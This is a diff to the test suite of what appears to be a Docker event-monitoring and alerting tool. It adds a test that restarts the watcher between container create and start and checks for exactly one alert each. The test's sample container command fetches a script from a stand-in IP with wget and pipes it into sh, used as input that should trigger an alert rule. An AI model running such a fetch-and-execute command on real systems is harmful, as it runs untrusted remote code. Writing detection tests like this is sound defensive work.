@@ -53,6 +53,11 @@ class Watch:
     def ids(self) -> list[str]:
         return [orjson.loads(raw)["event_id"] for raw in self.out.read_bytes().splitlines()] if self.out.exists() else []
 
+    def containers_created(self) -> list[str]:
+        """The container of every create alert."""
+        alerts = [orjson.loads(raw) for raw in self.out.read_bytes().splitlines()] if self.out.exists() else []
+        return [a["target"]["container_id"] for a in alerts if a["action"] == "create"]
+
     def position(self) -> dict[str, Any]:
         try:
             pos = orjson.loads(self.state.read_bytes())["inputs"].get(f"docker {self.url}")
@@ -161,3 +166,35 @@ def test_gap_older_than_the_daemon_buffer_is_warned_and_counted(docker_daemon: D
     assert "no longer holds the events after" in err and "may be missed" in err
     ids = w.ids()
     assert len(ids) == len(set(ids))
+
+
+@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL], ids=["sigterm", "kill-9"])
+def test_a_restart_between_create_and_start_alerts_once(
+    docker_daemon: Dockerd, container: Any, tmp_path: Path, sig: signal.Signals
+) -> None:
+    """exec_create before the stop, exec_start after it (and a container's create and start): one alert each, as without the stop."""
+    api = docker_daemon.client().api
+    w = Watch(docker_daemon.url, tmp_path)
+    w.start()
+    created = ""
+    try:
+        _live_exec(docker_daemon, container, w, "before")
+        exec_id = _exec(docker_daemon, container, ["sh", "-c", "id # started while watch is down"], start=False)
+        cmd = ["sh", "-c", "sleep 300; wget -q -O - http://203.0.113.7/x.sh | sh"]  # a create some rule alerts on
+        name = f"s-{uuid.uuid4().hex[:8]}"
+        created = api.create_container(IMAGE, cmd, name=name, host_config=api.create_host_config(network_mode="none"))["Id"]
+        wait_until(lambda: exec_id in w.position().get("execs", []) and created in w.position().get("creates", []), "both open")
+        wait_until(lambda: exec_id in w.ids() and created in w.containers_created(), "both alerted")
+        w.stop(sig)
+        api.exec_start(exec_id)
+        api.start(created)
+        w.start()
+        _live_exec(docker_daemon, container, w, "after")
+        assert w.stop() == 0
+    finally:
+        if w.proc is not None:
+            w.stop(signal.SIGKILL)
+        if created:
+            api.remove_container(created, force=True)
+    assert w.ids().count(exec_id) == 1
+    assert w.containers_created().count(created) == 1
